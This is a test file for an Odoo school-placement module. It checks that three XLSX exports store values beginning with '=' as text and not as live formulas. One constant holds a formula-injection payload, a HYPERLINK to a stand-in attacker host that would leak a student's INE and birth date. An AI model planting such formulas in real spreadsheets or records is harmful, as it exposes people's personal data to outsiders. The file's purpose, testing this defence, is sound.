import base64
import io
from datetime import date

import openpyxl

from odoo.tests import tagged

from .common import BdePfmpCase

YEAR = "2030-2031"
# What an attacker types as a name: clicked in Excel, the row's INE and birth
# date would go to an outside address.
FORMULA = '=HYPERLINK("https://evil.example/?"&A2&D2,"Click")'


@tagged("post_install", "-at_install", "bde_pfmp")
class TestExportFormula(BdePfmpCase):
    """A name beginning with "=" is written as text in every XLSX export of
    the suite, never as a formula Excel would run."""

    def _read_back(self, wizard, field="file"):
        workbook = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard[field])))
        return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]

    def _assert_text_cell(self, cells, text=FORMULA):
        matches = [cell for cell in cells if cell.value == text]
        self.assertTrue(matches, f"{text!r} is in the file")
        for cell in matches:
            # openpyxl reads a formula as data type "f": here it is a string.
            self.assertEqual(cell.data_type, "s")

    def test_allowance_export(self):
        self.school_class.school_year = YEAR
        self.period.write({"date_start": "2030-11-04", "date_end": "2030-11-29"})
        self.student.name = f"{FORMULA} Martin"
        self.company_partner.name = FORMULA
        placement = self._make_placement(days_done=10)
        wizard = self.env["bde.allowance.export"].create(
            {"placement_ids": [(6, 0, placement.ids)]}
        )
        wizard.action_export()
        cells = self._read_back(wizard)
        # The first name and the host.
        self._assert_text_cell(cells)
        self.assertFalse([cell for cell in cells if cell.data_type == "f"])

    def test_convention_export(self):
        self.company_partner.name = FORMULA
        self.env["bde.partnership.convention"].create(
            {
                "partner_id": self.company_partner.id,
                "company_id": self.lycee.id,
                "date_start": date(2025, 9, 1),
                "date_end": date(2028, 8, 31),
            }
        )
        wizard = (
            self.env["bde.partnership.convention.export"]
            .with_company(self.lycee)
            .create({"state_filter": "all"})
        )
        wizard.action_export()
        cells = self._read_back(wizard)
        self._assert_text_cell(cells)
        self.assertFalse([cell for cell in cells if cell.data_type == "f"])

    def test_skill_need_export(self):
        self.company_partner.name = FORMULA
        need = (
            self.env["bde.skill.need"]
            .with_company(self.lycee)
            .create(
                {
                    "partner_id": self.company_partner.id,
                    "job_title": "=1+1",
                    "formation_id": self.formation.id,
                }
            )
        )
        wizard = (
            self.env["bde.skill.need.export"]
            .with_context(default_skill_need_ids=need.ids)
            .create({})
        )
        wizard.action_export()
        cells = self._read_back(wizard)
        self._assert_text_cell(cells)
        self._assert_text_cell(cells, "=1+1")
        self.assertFalse([cell for cell in cells if cell.data_type == "f"])
